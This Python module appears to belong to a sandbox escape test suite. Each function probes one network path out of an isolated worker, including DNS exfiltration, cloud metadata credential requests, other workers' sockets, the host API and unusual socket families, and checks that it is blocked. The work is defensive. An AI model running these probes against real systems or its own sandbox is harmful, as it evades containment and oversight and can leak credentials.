"""Reaching anything but the host's door."""

import os
import socket
import struct
from typing import List, Optional, Tuple

from .calls import LIBC
from .registry import Blocked, World, attack, canary_in

__all__ = ["ask_http"]

_NO_NET = "the sandbox has a network of its own, with nothing in it but its loopback"
_FILTER = "the filter of system calls allows sockets of the families AF_UNIX, AF_INET and AF_INET6 only"
_NO_RAW = "no capability (CAP_NET_RAW)"
_WAIT_S = 2.0


def ask_http(address: Tuple[str, int], request: bytes, *, wait_s: float = _WAIT_S) -> bytes:
    """Send bytes to an address and return what comes back until it closes or falls silent."""
    with socket.create_connection(address, timeout=wait_s) as connection:
        connection.sendall(request)
        return everything(connection)


def everything(connection: socket.socket) -> bytes:
    """Return what comes until the other side closes or falls silent."""
    pieces = []
    try:
        while True:
            piece = connection.recv(65536)
            if not piece:
                break
            pieces.append(piece)
    except (socket.timeout, ConnectionError):
        pass
    return b"".join(pieces)


def _banner(family: int, kind: int, address: object) -> Optional[bytes]:
    with socket.socket(family, kind) as connection:
        connection.settimeout(_WAIT_S)
        connection.connect(address)  # type: ignore[arg-type]
        if kind == socket.SOCK_DGRAM:
            connection.send(b"hello")
        return canary_in(connection.recv(4096))


@attack("sandbox", _NO_NET, canary="tcp")
def tcp_to_host(world: World) -> Optional[bytes]:
    """Connect to a service on the machine's loopback"""
    return _banner(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", world.tcp_port))


@attack("sandbox", _NO_NET, canary="tcp")
def tcp_to_outside(world: World) -> Optional[bytes]:
    """Connect to another address than the machine's loopback"""
    return _banner(socket.AF_INET, socket.SOCK_STREAM, (world.outside, world.tcp_port))


@attack("sandbox", _NO_NET, canary="tcp", optional=True)
def tcp_over_ipv6(world: World) -> Optional[bytes]:
    """Connect over IPv6"""
    return _banner(socket.AF_INET6, socket.SOCK_STREAM, ("::1", world.tcp6_port))


@attack("sandbox", _NO_NET, canary="udp")
def udp_to_host(world: World) -> Optional[bytes]:
    """Send a datagram and have an answer"""
    return _banner(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", world.udp_port))


@attack("sandbox", _NO_NET, canary="dns")
def ask_dns(world: World) -> Optional[bytes]:
    """Carry data out by asking the name server that `/etc/resolv.conf` names"""
    name = b"".join(bytes([len(part)]) + part for part in (b"stolen-data", b"example", b"test"))
    question = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(_WAIT_S)
        connection.connect((_name_server(world), 53))
        connection.send(question)
        return canary_in(connection.recv(4096))


def _name_server(world: World) -> str:
    try:
        with open("/etc/resolv.conf") as file:
            return next(line.split()[1] for line in file if line.startswith("nameserver"))
    except (OSError, StopIteration):
        return str(world.name_server)


@attack("sandbox", _NO_NET, canary="resolved")
def resolve_name(world: World) -> Optional[bytes]:
    """Have a name resolved by the C library"""
    found = socket.getaddrinfo("canary.example.test", 80, socket.AF_INET6, socket.SOCK_STREAM)
    packed = socket.inet_pton(socket.AF_INET6, str(found[0][4][0]))
    return b"canary-resolved-" + packed[4:].hex().encode()


@attack("sandbox", _NO_NET, canary="metadata")
def ask_metadata(world: World) -> Optional[bytes]:
    """Ask the cloud's metadata address for credentials"""
    request = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n"
    return canary_in(ask_http(("169.254.169.254", 80), request))


@attack("sandbox", _NO_NET, canary="scripted")
def ask_model_directly(world: World) -> Optional[bytes]:
    """Go to the model's endpoint around the gateway"""
    return canary_in(ask_http(("127.0.0.1", world.model_port), b"GET /canary HTTP/1.0\r\n\r\n"))


@attack("sandbox", _NO_NET, canary="victim-port")
def tcp_to_other_worker(world: World) -> Optional[bytes]:
    """Connect to a port on which another worker listens"""
    return _banner(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", world.victim["port"]))


@attack("sandbox", _NO_NET)
def knock_at_other_door(world: World) -> Optional[str]:
    """Reach the model door of another worker"""
    said = ask_http(("127.0.0.1", world.victim["door"]), b"GET /v1/models HTTP/1.0\r\n\r\n")
    return "its gateway answered" if said else None


@attack("sandbox", _NO_NET + ": abstract sockets belong to a network", canary="abstract")
def abstract_socket(world: World) -> Optional[bytes]:
    """Connect to an abstract Unix socket"""
    return _banner(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + world.abstract_name)


@attack("sandbox", "no folder with sockets of others is mounted in the sandbox", canary="pathname")
def pathname_socket(world: World) -> Optional[bytes]:
    """Connect to a Unix socket in a folder"""
    return _banner(socket.AF_UNIX, socket.SOCK_STREAM, world.pathname_socket)


@attack("sandbox", "no folder with sockets of others is mounted in the sandbox", canary="pathname")
def pathname_socket_by_proc(world: World) -> Optional[bytes]:
    """Connect to a Unix socket through `/proc/PID/root`"""
    refusal: OSError = OSError("no process")
    for pid in sorted(each for each in os.listdir("/proc") if each.isdecimal()):
        try:
            return _banner(socket.AF_UNIX, socket.SOCK_STREAM, "/proc/%s/root%s" % (pid, world.pathname_socket))
        except OSError as error:
            refusal = error
    raise refusal


@attack("sandbox", "the folder of the host's socket is not mounted in the sandbox")
def host_api(world: World) -> Optional[str]:
    """Use the host's own API through its socket"""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(_WAIT_S)
        connection.connect(world.api_socket)
        connection.sendall(b"GET /v1/host HTTP/1.1\r\nHost: host\r\nConnection: close\r\n\r\n")
        return "the host answered" if b"workers" in everything(connection) else None


@attack("sandbox", _NO_RAW, who="root")
def raw_socket(world: World) -> Optional[str]:
    """Open a raw IP socket"""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "opened a raw socket"


@attack("sandbox", _NO_RAW + "; " + _FILTER, who="root")
def packet_socket(world: World) -> Optional[str]:
    """Listen to all packets"""
    with socket.socket(17, socket.SOCK_RAW, socket.htons(3)):
        return "opened a packet socket"


@attack("sandbox", _FILTER)
def netlink_socket(world: World) -> Optional[str]:
    """Talk to the kernel over netlink"""
    with socket.socket(16, socket.SOCK_RAW, 0) as link:
        link.bind((0, 0))
        link.send(struct.pack("IHHIIBxHiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0))  # RTM_GETLINK, dump
        return "the kernel answered %d bytes" % len(link.recv(65536))


@attack("sandbox", _FILTER)
def vsock_socket(world: World) -> Optional[str]:
    """Open a socket to the hypervisor (AF_VSOCK); nothing is sent"""
    with socket.socket(40, socket.SOCK_STREAM):
        return "opened a vsock"


@attack("sandbox", _FILTER, optional=True)
def crypto_socket(world: World) -> Optional[str]:
    """Use the kernel's cryptography (AF_ALG), often the way in to kernel bugs"""
    with socket.socket(38, socket.SOCK_SEQPACKET):
        return "opened AF_ALG"


@attack("sandbox", _FILTER)
def odd_sockets(world: World) -> Optional[str]:
    """Open sockets of any other family that the kernel has"""
    opened: List[str] = []
    for family in range(3, 48):
        if family == socket.AF_INET6:
            continue
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
            descriptor = LIBC.socket(family, kind, 0)
            if descriptor >= 0:
                os.close(descriptor)
                opened.append(str(family))
                break
    return "opened families " + ", ".join(opened) if opened else None


@attack("sandbox", "the sandbox's network has no route, and its own addresses lead back into it", canary="tcp")
def every_local_address(world: World) -> Optional[bytes]:
    """Try the host's port on every address that may mean this machine"""
    refusal: Exception = Blocked("nothing")
    for address in ("0.0.0.0", "127.0.0.2", "127.1.1.1", "localhost", "::ffff:127.0.0.1", "10.0.2.2", "172.17.0.1"):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(0.3)
                connection.connect((address, world.tcp_port))
                connection.settimeout(_WAIT_S)
                return canary_in(connection.recv(4096))
        except OSError as error:
            refusal = error
    raise refusal
